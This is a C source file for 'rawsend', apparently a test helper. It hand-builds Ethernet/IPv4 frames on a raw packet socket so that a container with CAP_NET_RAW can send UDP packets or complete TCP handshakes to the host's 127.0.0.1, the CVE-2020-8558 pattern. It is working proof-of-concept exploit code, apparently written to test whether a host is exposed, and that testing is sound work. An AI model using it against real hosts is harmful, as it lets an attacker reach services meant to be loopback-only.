/* rawsend: what an attacker in a container with CAP_NET_RAW does to reach the host's
 * loopback (the CVE-2020-8558 pattern): hand-made Ethernet frames, sent on a packet socket
 * to the gateway's MAC, carrying an IPv4 packet for an address the container's own routing
 * would never send out (127.0.0.1).
 *
 *   rawsend IFACE GATEWAY_MAC DST_IP udp|tcp PORT
 *
 * udp: one datagram with the payload "rawsend"; prints "sent".
 * tcp: a SYN, then up to 1.5 s of listening on the packet socket for the SYN-ACK; if it
 *      comes, the handshake is finished with an ACK (the container's kernel drops a SYN-ACK
 *      from 127.0.0.1 as a martian, so it sends no RST); prints "synack" or "nosynack".
 * Exit 0 when the frames were sent, 2 on bad arguments, 1 on a system error.
 * Built by the test with `gcc -static` and bind-mounted into the container.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (; len > 1; len -= 2, p += 2) sum += (uint32_t)(p[0] << 8 | p[1]);
    if (len) sum += (uint32_t)(p[0] << 8);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* the TCP/UDP pseudo-header sum (RFC 793 / 768) */
static uint32_t pseudo(uint32_t src, uint32_t dst, uint8_t proto, uint16_t len) {
    uint8_t ph[12];
    memcpy(ph, &src, 4);
    memcpy(ph + 4, &dst, 4);
    ph[8] = 0;
    ph[9] = proto;
    ph[10] = (uint8_t)(len >> 8);
    ph[11] = (uint8_t)len;
    uint32_t sum = 0;
    for (int i = 0; i < 12; i += 2) sum += (uint32_t)(ph[i] << 8 | ph[i + 1]);
    return sum;
}

struct link {
    int fd;
    struct sockaddr_ll to;
    uint8_t src_mac[6], dst_mac[6];
    uint32_t src_ip, dst_ip; /* network order */
};

static size_t frame(const struct link *l, uint8_t *buf, uint8_t proto, const uint8_t *l4, size_t l4len) {
    struct ether_header *eth = (struct ether_header *)buf;
    memcpy(eth->ether_dhost, l->dst_mac, 6);
    memcpy(eth->ether_shost, l->src_mac, 6);
    eth->ether_type = htons(ETHERTYPE_IP);
    struct iphdr *ip = (struct iphdr *)(buf + sizeof *eth);
    memset(ip, 0, sizeof *ip);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = proto;
    ip->tot_len = htons((uint16_t)(sizeof *ip + l4len));
    ip->id = htons((uint16_t)getpid());
    ip->saddr = l->src_ip;
    ip->daddr = l->dst_ip;
    ip->check = csum(ip, sizeof *ip, 0);
    memcpy(buf + sizeof *eth + sizeof *ip, l4, l4len);
    return sizeof *eth + sizeof *ip + l4len;
}

static int send_frame(const struct link *l, uint8_t proto, const uint8_t *l4, size_t l4len) {
    uint8_t buf[1514];
    size_t n = frame(l, buf, proto, l4, l4len);
    if (sendto(l->fd, buf, n, 0, (const struct sockaddr *)&l->to, sizeof l->to) < 0) {
        perror("sendto");
        return -1;
    }
    return 0;
}

static int send_tcp(const struct link *l, uint16_t sport, uint16_t dport, uint32_t seq, uint32_t ack, uint8_t flags) {
    struct tcphdr t;
    memset(&t, 0, sizeof t);
    t.source = htons(sport);
    t.dest = htons(dport);
    t.seq = htonl(seq);
    t.ack_seq = htonl(ack);
    t.doff = 5;
    t.syn = !!(flags & 0x02);
    t.ack = !!(flags & 0x10);
    t.window = htons(64240);
    t.check = csum(&t, sizeof t, pseudo(l->src_ip, l->dst_ip, IPPROTO_TCP, sizeof t));
    return send_frame(l, IPPROTO_TCP, (const uint8_t *)&t, sizeof t);
}

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

int main(int argc, char **argv) {
    if (argc != 6) {
        fprintf(stderr, "usage: rawsend IFACE GATEWAY_MAC DST_IP udp|tcp PORT\n");
        return 2;
    }
    struct link l;
    memset(&l, 0, sizeof l);
    unsigned m[6];
    if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
        fprintf(stderr, "bad MAC %s\n", argv[2]);
        return 2;
    }
    for (int i = 0; i < 6; i++) l.dst_mac[i] = (uint8_t)m[i];
    struct in_addr dst;
    if (inet_pton(AF_INET, argv[3], &dst) != 1) {
        fprintf(stderr, "bad address %s\n", argv[3]);
        return 2;
    }
    l.dst_ip = dst.s_addr;
    int tcp = strcmp(argv[4], "tcp") == 0;
    if (!tcp && strcmp(argv[4], "udp") != 0) {
        fprintf(stderr, "protocol must be udp or tcp\n");
        return 2;
    }
    long port = strtol(argv[5], NULL, 10);
    if (port <= 0 || port > 65535) {
        fprintf(stderr, "bad port %s\n", argv[5]);
        return 2;
    }

    /* the interface's index, MAC and address */
    int q = socket(AF_INET, SOCK_DGRAM, 0);
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", argv[1]);
    if (q < 0 || ioctl(q, SIOCGIFINDEX, &ifr) < 0) { perror("SIOCGIFINDEX"); return 1; }
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(q, SIOCGIFHWADDR, &ifr) < 0) { perror("SIOCGIFHWADDR"); return 1; }
    memcpy(l.src_mac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(q, SIOCGIFADDR, &ifr) < 0) { perror("SIOCGIFADDR"); return 1; }
    l.src_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    close(q);

    l.fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (l.fd < 0) { perror("socket(AF_PACKET)"); return 1; }
    l.to.sll_family = AF_PACKET;
    l.to.sll_protocol = htons(ETH_P_IP);
    l.to.sll_ifindex = ifindex;
    l.to.sll_halen = 6;
    memcpy(l.to.sll_addr, l.dst_mac, 6);
    if (bind(l.fd, (struct sockaddr *)&l.to, sizeof l.to) < 0) { perror("bind"); return 1; }

    uint16_t sport = (uint16_t)(40000 + getpid() % 20000);
    if (!tcp) {
        const char payload[] = "rawsend";
        uint8_t seg[sizeof(struct udphdr) + sizeof payload - 1];
        struct udphdr *u = (struct udphdr *)seg;
        u->source = htons(sport);
        u->dest = htons((uint16_t)port);
        u->len = htons((uint16_t)sizeof seg);
        u->check = 0;
        memcpy(seg + sizeof *u, payload, sizeof payload - 1);
        u->check = csum(seg, sizeof seg, pseudo(l.src_ip, l.dst_ip, IPPROTO_UDP, sizeof seg));
        if (send_frame(&l, IPPROTO_UDP, seg, sizeof seg) < 0) return 1;
        puts("sent");
        return 0;
    }

    uint32_t iss = 0x5a000000u + (uint32_t)getpid();
    if (send_tcp(&l, sport, (uint16_t)port, iss, 0, 0x02) < 0) return 1;
    long deadline = now_ms() + 1500;
    uint8_t buf[2048];
    for (long left; (left = deadline - now_ms()) > 0;) {
        struct pollfd p = {.fd = l.fd, .events = POLLIN};
        if (poll(&p, 1, (int)left) <= 0) continue;
        ssize_t n = recv(l.fd, buf, sizeof buf, 0);
        if (n < (ssize_t)(sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct tcphdr))) continue;
        struct iphdr *ip = (struct iphdr *)(buf + sizeof(struct ether_header));
        if (ip->protocol != IPPROTO_TCP || ip->saddr != l.dst_ip || ip->daddr != l.src_ip) continue;
        struct tcphdr *t = (struct tcphdr *)((uint8_t *)ip + ip->ihl * 4);
        if (ntohs(t->source) != port || ntohs(t->dest) != sport || !t->syn || !t->ack) continue;
        if (send_tcp(&l, sport, (uint16_t)port, iss + 1, ntohl(t->seq) + 1, 0x10) < 0) return 1;
        puts("synack");
        return 0;
    }
    puts("nosynack");
    return 0;
}
